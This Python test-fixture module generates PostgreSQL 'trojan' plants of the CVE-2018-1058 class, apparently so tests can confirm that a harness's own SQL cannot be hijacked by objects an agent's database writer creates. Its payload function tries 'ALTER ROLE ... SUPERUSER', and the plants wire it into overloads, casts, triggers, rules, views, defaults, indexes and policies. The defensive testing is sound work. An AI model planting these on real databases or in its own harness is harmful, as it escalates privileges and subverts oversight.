"""Code the agent's database writer can plant for the harness to run (the CVE-2018-1058 class and its
relatives): each plant is a list of statements the writer sends, every one of which wires the same
payload, :data:`PAYLOAD`, into some way PostgreSQL may call it — an overload of a name the harness's SQL
uses (function, operator, aggregate), a cast, a domain, a trigger, a rule, a view, a default, an index
or statistics expression, a partition key, a check constraint, a policy, a shadowing type or relation.

The payload says that it ran (a ``WARNING`` carrying :data:`MARK`, which the tests collect on the
harness's own connections), then tries to record who ran it in the writer's marker table and to make
the writer a superuser (each in a block of its own that swallows a refusal, so a payload run by a
role without those rights still completes and is seen by its warning alone).

Used by ``tests/toolplane/test_database_trojans.py`` (generated with hypothesis, and every kind at once).
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any

#: What the payload's warning starts with.
MARK = "oasis-plant-ran"
#: The functions and operators the harness's SQL names (besides those found in its catalog queries).
HARNESS_FUNCTIONS = (
    "md5",
    "string_agg",
    "to_timestamp",
    "left",
    "set_config",
    "format",
    "format_type",
    "textin",
    "record_out",
    "current_database",
    "pg_get_expr",
    "pg_get_constraintdef",
    "pg_get_indexdef",
    "pg_get_triggerdef",
    "pg_get_ruledef",
    "pg_terminate_backend",
    "pg_database_size",
    "pg_partition_ancestors",
    "date_part",
    "count",
)
HARNESS_OPERATORS = ("=", ">=", ">", "<", "<=", "<>", "~~", "!~~", "||")
#: Relations the harness reads by name.
HARNESS_RELATIONS = (
    "pg_class",
    "pg_namespace",
    "pg_attribute",
    "pg_index",
    "pg_roles",
    "pg_authid",
    "pg_proc",
    "pg_type",
    "pg_stat_activity",
    "pg_database",
    "pg_depend",
    "columns",
    "schema_migrations",
    "users",
)
#: Argument types an overload is planted for (``{home}``: the writer's schema).
ARG_TYPES = (
    "text",
    "name",
    "oid",
    '"char"',
    "regclass",
    "regrole",
    "timestamptz",
    "double precision",
    "integer",
    "bigint",
    "boolean",
    "text[]",
    "aclitem[]",
    "anyelement",
    "{home}.plant_ts",
    "{home}.plant_mood",
    "{home}.users",
    "{home}.schema_migrations",
)
#: The declared tables (``users`` and the migrations table) and a column of each.
TABLES = (("users", "id"), ("schema_migrations", "version"))


def setup(home: str, writer: str) -> list[str]:
    """The payload, its marker table and the writer's types the plants use (in ``home``)."""
    return [
        f"CREATE TABLE {home}.plant_marker (plant text, who text, superuser text)",
        f"GRANT INSERT ON {home}.plant_marker TO PUBLIC",
        f"""CREATE FUNCTION {home}.oasis_plant(tag text) RETURNS boolean LANGUAGE plpgsql VOLATILE AS $f$
BEGIN
  RAISE WARNING '{MARK} % as %', tag, current_user;
  BEGIN
    INSERT INTO {home}.plant_marker VALUES (tag, current_user, current_setting('is_superuser'));
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    EXECUTE 'ALTER ROLE {writer} SUPERUSER';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN true;
END $f$""",
        f"CREATE DOMAIN {home}.plant_ts AS timestamptz",
        f"CREATE TYPE {home}.plant_mood AS ENUM ('calm', 'angry')",
        # An immutable wrapper (index and statistics expressions, partition keys, generated columns).
        f"CREATE FUNCTION {home}.plant_imm(integer) RETURNS integer IMMUTABLE LANGUAGE sql "
        f"AS $f$ SELECT CASE WHEN {home}.oasis_plant('immutable') THEN $1 END $f$",
    ]


Draw = Callable[[Sequence[Any]], Any]


@dataclass(frozen=True)
class Site:
    home: str  # the writer's own schema (where its objects go unqualified)
    schema: str  # where this plant is made (the home schema, or public)
    tag: str  # unique per plant


def _returning(site: Site, ret: str) -> str:
    return f"SELECT CASE WHEN {site.home}.oasis_plant('{site.tag}') THEN NULL::{ret} END"


def _args(draw: Draw, home: str, n: int) -> list[str]:
    return [draw(ARG_TYPES).format(home=home) for _ in range(n)]


def overload_function(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    name = draw(names)
    args = _args(draw, site.home, int(draw(("0", "1", "1", "2", "3"))))
    ret = draw(("text", "boolean", "integer", "timestamptz", "name"))
    return [
        f"CREATE FUNCTION {site.schema}.{name}({', '.join(args)}) RETURNS {ret} LANGUAGE sql VOLATILE "
        f"AS $f$ {_returning(site, ret)} $f$"
    ]


def overload_operator(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    op = draw(HARNESS_OPERATORS)
    left, right = _args(draw, site.home, 2)
    fn = f"{site.home}.plant_op_{site.tag}"
    return [
        f"CREATE FUNCTION {fn}({left}, {right}) RETURNS boolean LANGUAGE sql VOLATILE "
        f"AS $f$ SELECT {site.home}.oasis_plant('{site.tag}') $f$",
        f"CREATE OPERATOR {site.schema}.{op} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = {fn})",
    ]


def overload_aggregate(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    name = draw(("string_agg", "count", "max", "min", "array_agg", "sum"))
    args = _args(draw, site.home, int(draw(("0", "1", "2"))))
    sfunc = f"{site.home}.plant_sfunc_{site.tag}"
    return [
        f"CREATE FUNCTION {sfunc}({', '.join(['text', *args])}) RETURNS text LANGUAGE sql VOLATILE "
        f"AS $f$ SELECT CASE WHEN {site.home}.oasis_plant('{site.tag}') THEN $1 END $f$",
        f"CREATE AGGREGATE {site.schema}.{name}({', '.join(args) or '*'}) (SFUNC = {sfunc}, STYPE = text)",
    ]


def cast(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    source = draw(
        ("{home}.plant_mood", "{home}.users", "{home}.schema_migrations", "{home}.plant_ts")
    ).format(home=site.home)
    target = draw(("text", "name", "boolean", "timestamptz", "bigint"))
    how = draw(("", " AS IMPLICIT", " AS ASSIGNMENT"))
    fn = f"{site.home}.plant_cast_{site.tag}"
    out = [
        f"CREATE FUNCTION {fn}({source}) RETURNS {target} LANGUAGE sql VOLATILE AS $f$ {_returning(site, target)} $f$",
        f"CREATE CAST ({source} AS {target}) WITH FUNCTION {fn}({source}){how}",
    ]
    if source.endswith("plant_mood"):
        table, _ = draw(TABLES)
        out.append(f"ALTER TABLE {site.home}.{table} ADD COLUMN mood_{site.tag} {source} DEFAULT 'calm'")
    return out


def domain(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    table, column, base = draw(
        (
            ("users", "created_at", "timestamptz"),
            ("users", "email_verified", "boolean"),
            ("schema_migrations", "version", "text"),
            ("schema_migrations", "applied_at", "timestamptz"),
        )
    )
    dom = f"{site.schema}.plant_dom_{site.tag}"
    return [
        f"CREATE DOMAIN {dom} AS {base} CHECK ({site.home}.oasis_plant('{site.tag}') OR VALUE IS NULL)",
        f"ALTER TABLE {site.home}.{table} ALTER COLUMN {column} TYPE {dom}",
        # The review's operator: the harness's comparison on the column, now of the writer's type.
        f"CREATE FUNCTION {site.home}.plant_dge_{site.tag}({dom}, {base}) RETURNS boolean LANGUAGE sql "
        f"VOLATILE AS $f$ SELECT {site.home}.oasis_plant('{site.tag}') $f$",
        f"CREATE OPERATOR {site.schema}.>= (LEFTARG = {dom}, RIGHTARG = {base}, "
        f"FUNCTION = {site.home}.plant_dge_{site.tag})",
    ]


def trigger(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    table, _ = draw(TABLES)
    when = draw(("BEFORE", "AFTER"))
    event = draw(("INSERT", "UPDATE", "DELETE", "TRUNCATE", "INSERT OR UPDATE OR DELETE"))
    each = "STATEMENT" if event == "TRUNCATE" else draw(("ROW", "STATEMENT"))
    fn = f"{site.schema}.plant_trig_{site.tag}"
    return [
        f"CREATE FUNCTION {fn}() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN "
        f"PERFORM {site.home}.oasis_plant('{site.tag}'); RETURN NULL; END $f$",
        f"CREATE TRIGGER plant_{site.tag} {when} {event} ON {site.home}.{table} FOR EACH {each} "
        f"EXECUTE FUNCTION {fn}()",
    ]


def event_trigger(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    event = draw(("ddl_command_start", "ddl_command_end", "sql_drop", "table_rewrite"))
    fn = f"{site.schema}.plant_evt_{site.tag}"
    return [
        f"CREATE FUNCTION {fn}() RETURNS event_trigger LANGUAGE plpgsql AS $f$ BEGIN "
        f"PERFORM {site.home}.oasis_plant('{site.tag}'); END $f$",
        f"CREATE EVENT TRIGGER plant_{site.tag} ON {event} EXECUTE FUNCTION {fn}()",
    ]


def rule(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    kind = draw(("INSERT", "UPDATE", "DELETE", "SELECT"))
    if kind == "SELECT":  # an empty table made a view by its ON SELECT rule
        table = f"{site.schema}.plant_rv_{site.tag}"
        return [
            f"CREATE TABLE {table} (x boolean)",
            f'CREATE RULE "_RETURN" AS ON SELECT TO {table} DO INSTEAD '
            f"SELECT {site.home}.oasis_plant('{site.tag}') AS x",
        ]
    table, _ = draw(TABLES)
    return [
        f"CREATE RULE plant_{site.tag} AS ON {kind} TO {site.home}.{table} DO ALSO "
        f"SELECT {site.home}.oasis_plant('{site.tag}')"
    ]


def view(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    name = draw((*HARNESS_RELATIONS, f"plant_v_{site.tag}"))
    materialized = draw(("", "MATERIALIZED "))
    return [
        f"CREATE {materialized}VIEW {site.schema}.{name} AS SELECT {site.home}.oasis_plant('{site.tag}') AS x"
    ]


def shadow(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    """A table or a type named after one the harness names."""
    name = draw(("text", "name", "oid", "regclass", "timestamptz", "pg_class", "pg_namespace", "pg_roles"))
    if draw(("table", "type")) == "table":
        return [
            f"CREATE TABLE {site.schema}.{name} (x boolean DEFAULT {site.home}.oasis_plant('{site.tag}'))"
        ]
    return [f"CREATE TYPE {site.schema}.{name} AS ENUM ('x')"]


def default(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    table, _ = draw(TABLES)
    how = draw(("set default", "volatile default", "generated"))
    if how == "set default":
        column = "created_at" if table == "users" else "applied_at"
        return [
            f"ALTER TABLE {site.home}.{table} ALTER COLUMN {column} SET DEFAULT "
            f"CASE WHEN {site.home}.oasis_plant('{site.tag}') THEN now() END"
        ]
    if how == "volatile default":
        return [
            f"ALTER TABLE {site.home}.{table} ADD COLUMN pd_{site.tag} boolean DEFAULT {site.home}.oasis_plant('{site.tag}')"
        ]
    arg = "id::integer" if table == "users" else "length(version)"
    return [
        f"ALTER TABLE {site.home}.{table} ADD COLUMN pg_{site.tag} integer "
        f"GENERATED ALWAYS AS ({site.home}.plant_imm({arg})) STORED"
    ]


def index(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    table, column = draw(TABLES)
    arg = draw(("1", "id::integer" if table == "users" else "length(version)"))
    unique = draw(("", "UNIQUE "))
    if draw(("expression", "predicate")) == "expression":
        return [
            f"CREATE {unique}INDEX plant_{site.tag} ON {site.home}.{table} (({site.home}.plant_imm({arg})))"
        ]
    return [
        f"CREATE INDEX plant_{site.tag} ON {site.home}.{table} ({column}) WHERE {site.home}.plant_imm({arg}) = 1"
    ]


def statistics(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    table, _ = draw(TABLES)
    arg = draw(("1", "id::integer" if table == "users" else "length(version)"))
    return [
        f"CREATE STATISTICS {site.schema}.plant_{site.tag} ON ({site.home}.plant_imm({arg})) FROM {site.home}.{table}",
        f"ANALYZE {site.home}.{table}",
    ]


def partition(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    parent = f"{site.schema}.plant_pt_{site.tag}"
    return [
        f"CREATE TABLE {parent} (id integer) PARTITION BY RANGE ({site.home}.plant_imm(id))",
        f"CREATE TABLE {parent}_1 PARTITION OF {parent} FOR VALUES FROM (MINVALUE) TO (MAXVALUE)",
        f"INSERT INTO {parent} VALUES (1), (2)",
    ]


def check(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    table, _ = draw(TABLES)
    valid = draw(("", " NOT VALID"))
    return [
        f"ALTER TABLE {site.home}.{table} ADD CONSTRAINT plant_{site.tag} "
        f"CHECK ({site.home}.plant_imm(1) = 1){valid}"
    ]


def policy(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    table, _ = draw(TABLES)
    return [
        f"ALTER TABLE {site.home}.{table} ENABLE ROW LEVEL SECURITY",
        f"ALTER TABLE {site.home}.{table} FORCE ROW LEVEL SECURITY",
        f"CREATE POLICY plant_{site.tag} ON {site.home}.{table} USING ({site.home}.oasis_plant('{site.tag}'))",
    ]


def inherit(site: Site, draw: Draw, names: tuple[str, ...]) -> list[str]:
    table, _ = draw(TABLES)
    child = f"{site.schema}.plant_child_{site.tag}"
    return [
        f"CREATE TABLE {child} () INHERITS ({site.home}.{table})",
        f"CREATE INDEX plant_ci_{site.tag} ON {child} (({site.home}.plant_imm(1)))",
    ]


Maker = Callable[[Site, Draw, tuple[str, ...]], list[str]]
#: Every kind of plant, by name.
KINDS: dict[str, Maker] = {
    "function": overload_function,
    "operator": overload_operator,
    "aggregate": overload_aggregate,
    "cast": cast,
    "domain": domain,
    "trigger": trigger,
    "event trigger": event_trigger,
    "rule": rule,
    "view": view,
    "shadow": shadow,
    "default": default,
    "index": index,
    "statistics": statistics,
    "partition": partition,
    "check": check,
    "policy": policy,
    "inherit": inherit,
}
#: Kinds PostgreSQL refuses to anyone but a superuser (each statement of theirs must fail).
SUPERUSER_ONLY = frozenset({"event trigger"})
